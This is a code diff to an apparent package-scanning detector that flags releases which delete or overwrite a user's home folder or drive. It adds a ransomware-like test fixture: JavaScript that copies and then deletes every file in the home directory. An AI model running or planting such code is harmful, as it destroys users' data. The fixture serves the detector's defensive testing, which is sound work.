@@ -1,14 +1,15 @@
 """This update deletes what is not its own.
 
 ## What it detects
-Deletion of a home folder, a root, a drive or everything in the working folder, new to the line.
+Deletion of a home folder, a root, a drive or everything in the working folder, new to the line; files beside whatever
+is found there, in a file that deletes as well, as what is held to ransom is.
 
 ## Why it matters
 Releases have been published to destroy, in protest or to cover a theft (node-ipc in 2022, dead-man's switches in
 2026). A library has no reason to delete a home folder.
 
 ## What it misses
-Overwriting; deletion of a path that is computed from data that only the running program has.
+Overwriting in place; deletion of a path that is computed from data that only the running program has.
 
 ## References
 - The public record of node-ipc 10.1.1 (2022)
@@ -20,7 +21,7 @@ from collections.abc import Iterator
 from lazaretto.core.facts import Kind
 from lazaretto.core.finding import Card, Example, Finding
 from lazaretto.core.question import Tally, package_json, runs_by_itself
-from lazaretto.core.update import Update
+from lazaretto.core.update import Placed, Update
 
 CARD = Card(
     id="broad-deletion-added",
@@ -28,6 +29,7 @@ CARD = Card(
     variants={
         "autorun": "Code that runs by itself deletes a home folder, a root or a drive.",
         "call": "A function deletes a home folder, a root or a drive.",
+        "rewritten": "Code that runs by itself writes to whatever lies in a home folder or a drive, and deletes.",
     },
     group="destruction",
     why="A library has no business outside its own folders.",
@@ -73,6 +75,19 @@ EXAMPLES = (
         at="index.js:4",
     ),
     Example(
+        title="whatever lies in the home folder is written anew under another name, and deleted",
+        before=_BEFORE,
+        after={
+            "package.json": package_json("1.0.1"),
+            "index.js": "const fs = require('fs');\nconst home = require('os').homedir();\n"
+            "for (const name of fs.readdirSync(home)) {\n"
+            "  fs.writeFileSync(home + '/' + name + '.kept', 'x');\n  fs.unlinkSync(home + '/' + name);\n}\n"
+            "module.exports = (a) => a;\n",
+        },
+        expect="rewritten",
+        at="index.js:4",
+    ),
+    Example(
         title="a build tool empties its output folder",
         before=_BEFORE,
         after={
@@ -91,6 +106,7 @@ EXAMPLES = (
 )
 
 _MESSAGES = {
+    "rewritten": "writes, without being called, to whatever lies in a home folder or a drive, and deletes",
     "autorun": "deletes, without being called, what is not its own",
     "call": "deletes, when it is called, what is not its own",
 }
@@ -103,7 +119,22 @@ def detect(update: Update) -> Iterator[Finding]:
         for placed in pair.gained(Kind.FS_DELETE):
             if is_broad(placed.fact.value) and (pair.before is not None or runs_by_itself(placed)):
                 tally.add("autorun" if runs_by_itself(placed) else "call", pair, placed)
+        deletes = {placed.path for placed in pair.after.placed if _deletes(placed)}
+        for placed in pair.gained(Kind.FS_WRITE):
+            if placed.path in deletes and runs_by_itself(placed) and _whatever_lies_there(placed.fact.value):
+                tally.add("rewritten", pair, placed)
     yield from tally.findings(_MESSAGES)
+
+
+def _deletes(placed: Placed) -> bool:
+    return placed.fact.kind is Kind.FS_DELETE and runs_by_itself(placed)
+
+
+def _whatever_lies_there(path: str | None) -> bool:
+    """Whether a path is made of a broad folder and a name that was found in it."""
+    text = (path or "").strip().replace("\\", "/").replace("{}", "*").lower()
+    folder, star, _ = text.partition("/*")
+    return bool(star) and is_broad(folder or "/")
 
 
 def is_broad(path: str | None) -> bool:
